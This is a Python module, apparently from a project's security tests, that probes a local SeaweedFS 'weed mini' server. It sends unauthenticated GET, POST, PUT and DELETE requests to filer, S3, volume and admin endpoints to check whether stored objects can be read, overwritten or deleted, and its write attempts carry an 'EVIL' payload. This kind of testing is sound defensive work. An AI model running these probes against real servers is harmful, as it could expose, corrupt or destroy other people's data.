"""Try to reach stored objects around the S3 API, the way a process on the same host would.

``weed mini`` opens master, volume and filer HTTP ports beside S3; unlocked, a raw POST to the
filer overwrites any object and a GET reads it (issue 13). ``probe_ports`` sends unsigned GET,
POST, PUT and DELETE requests for the paths those services answer to every given port and reports
what each achieved. Tests and the devnet attacker use it; nothing here needs a credential.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import httpx

# Pages that answer 200 without a secret but reveal no object: the master's cluster pages and the
# S3/volume health endpoints. A 2xx there is not a bypass unless the body carries object bytes.
INFO_PATHS: Final = frozenset({"/", "/status", "/healthz", "/cluster/status"})
_WRITES: Final = frozenset({"POST", "PUT", "DELETE"})


@dataclass(frozen=True, slots=True)
class Attempt:
    """One raw request and its outcome (``status`` None: refused at the connection level)."""

    port: int
    method: str
    path: str
    status: int | None
    leaked: bool  # the response body contained the victim object's bytes
    error: str = ""

    @property
    def achieved(self) -> bool:
        """True when the request read the object or a write/admin call was accepted (2xx)."""
        if self.leaked:
            return True
        if self.status is None or not 200 <= self.status < 300:
            return False
        return self.method in _WRITES or self.path not in INFO_PATHS


def attack_paths(bucket: str, key: str) -> list[tuple[str, str]]:
    """(method, path) pairs aimed at ``key`` in ``bucket`` through every SeaweedFS HTTP API."""
    filer = f"/buckets/{bucket}/{key}"
    s3 = f"/{bucket}/{key}"
    out: list[tuple[str, str]] = []
    for path in (filer, s3):
        out += [("GET", path), ("POST", path), ("PUT", path), ("DELETE", path)]
    out += [("GET", f"/buckets/{bucket}/"), ("GET", f"/{bucket}?list-type=2")]
    for admin in (
        "/dir/assign",
        f"/col/delete?collection={bucket}",
        "/vol/grow?count=1",
        "/vol/status",
        "/dir/lookup?volumeId=1",
        "/cluster/status",
    ):
        out += [("GET", admin), ("POST", admin)]
    for fid in ("/1,01", "/2,01", "/3,01"):
        out += [("GET", fid), ("POST", fid), ("PUT", fid), ("DELETE", fid)]
    out += [("GET", "/"), ("GET", "/status")]
    return out


def probe_ports(
    host: str,
    ports: Iterable[int],
    requests: Iterable[tuple[str, str]],
    *,
    secret: bytes,
    timeout: float = 5.0,
) -> list[Attempt]:
    """Send every (method, path) to every port without credentials; returns one Attempt each.

    Writes carry a multipart/raw body ``b"EVIL"``. ``secret`` is the victim object's content: a
    response containing it counts as a leak. Never raises for network errors (they are outcomes).
    """
    pairs = list(requests)
    out: list[Attempt] = []
    with httpx.Client(timeout=timeout, trust_env=False) as client:
        for port in ports:
            for method, path in pairs:
                out.append(_one(client, host, port, method, path, secret))
    return out


def _one(
    client: httpx.Client, host: str, port: int, method: str, path: str, secret: bytes
) -> Attempt:
    url = f"http://{host}:{port}{path}"
    kwargs: dict[str, object] = {}
    if method == "POST":
        kwargs["files"] = {"file": ("evil.parquet", b"EVIL")}
    elif method == "PUT":
        kwargs["content"] = b"EVIL"
    try:
        resp = client.request(method, url, **kwargs)  # type: ignore[arg-type]
    except httpx.HTTPError as exc:
        # gRPC ports speak HTTP/2 only and drop an HTTP/1.1 request: refused.
        return Attempt(port, method, path, None, False, type(exc).__name__)
    return Attempt(port, method, path, resp.status_code, secret in resp.content)


def weed_pids(s3_port: int | None = None) -> list[int]:
    """PIDs of running ``weed ... mini`` processes this user can see (Linux ``/proc``).

    With ``s3_port``, only the one serving S3 on that port (so a probe never touches someone
    else's server on a shared host).
    """
    wanted = None if s3_port is None else f"-s3.port={s3_port}".encode()
    out: list[int] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if not argv or Path(argv[0].decode(errors="replace")).name != "weed" or b"mini" not in argv:
            continue
        if wanted is None or wanted in argv:
            out.append(int(entry.name))
    return sorted(out)
